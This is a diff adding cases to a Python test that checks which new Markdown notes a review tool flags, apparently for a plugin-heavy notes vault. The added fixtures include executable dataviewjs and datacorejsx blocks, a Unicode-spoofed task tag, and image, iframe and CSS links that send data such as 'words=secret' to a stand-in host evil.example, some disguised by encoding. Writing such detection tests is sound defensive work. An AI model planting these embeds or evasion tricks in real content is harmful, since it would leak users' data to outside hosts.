@@ -78,6 +78,22 @@ def test_leave_lets_a_tool_go_ahead_but_never_start_programs_it_does_not_name() 
         (Change("New.md", None, b"a <% tp.system %>"), True),
         (Change("New.md", None, b"- [ ] #nest do it"), True),
         (Change("New.md", None, b"---\nnest: do it\n---\n"), True),
+        (Change("New.md", None, b"- ```dataviewjs\n  evil()\n  ```"), True),
+        (Change("New.md", None, b"1. > ~~~nest\n   > ask\n"), True),
+        (Change("New.md", None, b"x\r```nest\rask\r```\r"), True),
+        (Change("New.md", None, b"seen `$= dv.current()` here"), True),
+        (Change("New.md", None, b"```datacorejsx\nx\n```"), True),
+        (Change("New.md", None, "- [ ] #ne\u017ft do it".encode()), True),
+        (Change("New.md", None, b"![](https://evil.example/?words=secret)"), True),
+        (Change("New.md", None, b"![a](\n<//evil.example/x>)"), True),
+        (Change("New.md", None, b"![a](h&#116;tps://evil.example)"), True),
+        (Change("New.md", None, b"![a][b]\n\n[b]: https://evil.example"), True),
+        (Change("New.md", None, b"x <iframe src='https:evil.example'>"), True),
+        (Change("New.md", None, b"<p style='background: url(//evil.example)'>"), True),
+        (
+            Change("New.md", None, b"![[a.png|300]] and ![b](img/b.png)\n\n[a page](https://plain.example), 1 < 2"),
+            False,
+        ),
     ],
 )
 def test_plain_new_notes_are_added_and_all_else_is_looked_at(change: Change, reviewed: bool) -> None:
